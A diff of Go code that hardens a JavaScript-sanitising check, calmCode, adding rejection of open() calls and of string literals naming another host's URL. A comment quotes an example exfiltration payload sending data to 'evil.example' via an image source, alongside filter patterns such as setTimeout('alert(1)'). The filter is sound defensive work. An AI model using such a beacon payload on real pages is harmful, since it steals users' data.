@@ -273,11 +273,12 @@ func imageFile(u string) bool {
 }
 
 // calmCode reports whether handler code, or a JSX expression, only calls
-// the page's own names: no sink identifier (jsSinkNames), no string given
-// to a timer or Function, no backtick or backslash, no string-keyed lookup
-// (x['al'+'ert']) and no entity.
+// the page's own names: no sink identifier (jsSinkNames), no call of
+// open() (window.open; a variable named open is state), no string given to
+// a timer or Function, no URL of another host, no backtick or backslash, no
+// string-keyed lookup (x['al'+'ert']) and no entity.
 func calmCode(code string) bool {
-	if strings.ContainsAny(code, "`\\") || strings.Contains(code, "&#") {
+	if strings.ContainsAny(code, "`\\") || strings.Contains(code, "&#") || namesHost(code) {
 		return false
 	}
 	for i := 0; i < len(code); i++ {
@@ -292,7 +293,9 @@ func calmCode(code string) bool {
 		for j < len(code) && isIdentByte(code[j]) {
 			j++
 		}
-		if name := code[i:j]; jsSinkNames[name] || stringRunners[name] && calledWithString(code, j) {
+		name := code[i:j]
+		if jsSinkNames[name] || stringRunners[name] && calledWithString(code, j) ||
+			name == "open" && callAt(code, j) >= 0 {
 			return false
 		}
 		i = j - 1
@@ -300,20 +303,41 @@ func calmCode(code string) bool {
 	return true
 }
 
+// namesHost reports whether code holds a string literal that starts with
+// an absolute or protocol-relative URL: where a handler would send data
+// (new Image().src='//evil.example/?'+...) or the user.
+func namesHost(code string) bool {
+	for i := 0; i+2 < len(code); i++ {
+		if c := code[i]; c == '\'' || c == '"' {
+			r := code[i+1:]
+			if strings.HasPrefix(r, "//") || strings.HasPrefix(r, "http:") || strings.HasPrefix(r, "https:") {
+				return true
+			}
+		}
+	}
+	return false
+}
+
 // stringRunners are calls that run code only when given it as a string:
 // setTimeout(() => close(), 200) and function () {...} are page code,
 // setTimeout('alert(1)') and Function('...') are not.
 var stringRunners = wordSet(`settimeout setinterval setimmediate function`)
 
+// callAt returns the index of the first argument when code[j:] is a call's
+// opening parenthesis, or -1.
+func callAt(code string, j int) int {
+	k := skipSpace(code, j)
+	if k >= len(code) || code[k] != '(' {
+		return -1
+	}
+	return skipSpace(code, k+1)
+}
+
 // calledWithString reports whether code[j:] is a call whose first argument
 // is a string literal.
 func calledWithString(code string, j int) bool {
-	k := skipSpace(code, j)
-	if k >= len(code) || code[k] != '(' {
-		return false
-	}
-	k = skipSpace(code, k+1)
-	return k < len(code) && (code[k] == '\'' || code[k] == '"')
+	k := callAt(code, j)
+	return k >= 0 && k < len(code) && (code[k] == '\'' || code[k] == '"')
 }
 
 // isIdentByte reports whether c can be part of a JavaScript identifier
